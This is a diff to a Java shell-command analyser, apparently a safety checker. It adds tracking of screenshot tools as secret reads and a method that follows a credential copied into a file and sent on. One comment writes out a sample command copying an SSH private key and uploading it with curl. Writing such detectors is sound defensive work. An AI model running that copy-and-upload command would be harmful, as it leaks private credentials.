@@ -1722,6 +1722,19 @@ public final class Cmd {
                     out.add(o);
                 }
             }
+            // screenshots: the picture file is the last operand (or -f/-out/-o), its content a secret read (SW4104)
+            case "screencapture", "scrot", "grim", "maim", "import" -> {
+                List<String> ops = positionals(SCREENSHOT_VALUES.get(name));
+                if (!ops.isEmpty() && !ops.get(ops.size() - 1).equals("-") && (!name.equals("import") || anyArg("root"))) {
+                    out.add(ops.get(ops.size() - 1));
+                }
+            }
+            case "gnome-screenshot", "xwd", "spectacle" -> {
+                String o = valueOf("-f --file -out -o --output");
+                if (!o.isEmpty()) {
+                    out.add(o);
+                }
+            }
             case "tcpdump" -> {
                 String o = valueOf("-w");
                 if (!o.isEmpty() && !o.equals("-")) {
@@ -4388,6 +4401,55 @@ public final class Cmd {
         return "";
     }
 
+    /**
+     * True when this command names a file {@code writer} writes or a folder holding one: as an argument, an option's value ({@code --opt=FILE},
+     * {@code -d@FILE}, {@code field=@FILE}, {@code -T FILE}) or its standard input. What it reads
+     * or sends may be what {@code writer} put there, so a credential {@code writer} read travels
+     * on through the file ({@code cp ~/.ssh/id_rsa /tmp/k; curl -F f=@/tmp/k URL}). Paths the
+     * text does not tell ({@link PathFacts#resolveKnown}) and devices are not followed.
+     */
+    public boolean readsFileWrittenBy(Cmd writer, Ctx ctx) {
+        if (writer.named("chmod chown chgrp chattr setfacl touch mkdir")) {
+            return false;
+        }
+        String cwd = ctx.cwdOrProject();
+        String home = ctx.home();
+        List<String> written = new ArrayList<>();
+        for (String w : writer.getWriteTargets()) {
+            String abs = PathFacts.resolveKnown(w, cwd, home);
+            if (abs != null && !abs.equals("/") && !abs.startsWith("/dev/") && !abs.startsWith("/proc/")) {
+                written.add(abs);
+            }
+        }
+        if (written.isEmpty()) {
+            return false;
+        }
+        List<String> named = new ArrayList<>(redirectReads);
+        for (String a : args) {
+            named.add(a);
+            String value = a.substring(a.lastIndexOf('=') + 1);
+            named.add(value.startsWith("@") || value.startsWith("<") ? value.substring(1) : value);
+            if (a.length() > 2 && a.charAt(0) == '-' && a.charAt(1) != '-') {
+                String glued = a.substring(2); // -d@FILE, -T/tmp/FILE
+                named.add(glued.startsWith("@") || glued.startsWith("<") ? glued.substring(1) : glued);
+            }
+        }
+        for (String n : named) {
+            String abs = n.isEmpty() ? null : PathFacts.resolveKnown(n, cwd, home);
+            if (abs == null) {
+                continue;
+            }
+            for (String w : written) {
+                // not a path below a written folder: `cp KEY .` lists `.` beside `./KEY`, and
+                // everything in the project is below `.`
+                if (abs.equals(w) || w.startsWith(abs.equals("/") ? "/" : abs + "/")) {
+                    return true;
+                }
+            }
+        }
+        return false;
+    }
+
     /** True when {@code other} writes the file this command then runs. */
     public boolean runsFileWrittenBy(Cmd other, Ctx ctx) {
         if (other.named("chmod chown chgrp chattr setfacl touch mkdir")) {
@@ -5811,7 +5873,6 @@ public final class Cmd {
         return false;
     }
 
-    /** rsync's options that take the next word as their value. */
     /**
      * rsync's options that take a value, for every reading of its operands (sources, destination,
      * delete targets): one list, so a value is never read as a path in one place and not another.
@@ -5820,6 +5881,18 @@ public final class Cmd {
             + " --backup-dir --suffix --chmod --chown --timeout --bwlimit --partial-dir --temp-dir -T --compare-dest --copy-dest --link-dest"
             + " --files-from --exclude-from --include-from --out-format --max-size --min-size --info --debug --iconv --max-delete"
             + " --modify-window --block-size -B --remote-option -M --usermap --groupmap --sockopts --stop-after --stop-at";
+
+    /**
+     * The options that take a value of the screenshot tools whose picture file is their last
+     * operand: screencapture, scrot, grim, maim and ImageMagick's import ({@code import -window root x.png}).
+     */
+    private static final Map<String, String> SCREENSHOT_VALUES = Map.of(
+            "screencapture", "-t -T -R -l -D -B -J -V",
+            "scrot", "-d --delay -q --quality -t --thumb -e --exec -F --file -D --display -l --line -n --note",
+            "grim", "-g -t -q -l -s -o -T",
+            "maim", "-g --geometry -d --delay -f --format -i --window -m --quality -x --xdisplay -b --bordersize -p --padding"
+                    + " -c --color -r --shader -w --parent -t --tolerance",
+            "import", "-window -crop -geometry -resize -quality -density -depth -delay -display -screen -type -format -frame");
 
     /** scp's (and sftp's) options that take a value. */
     private static final String SCP_VALUES = "-i -F -o -P -c -l -S -J";
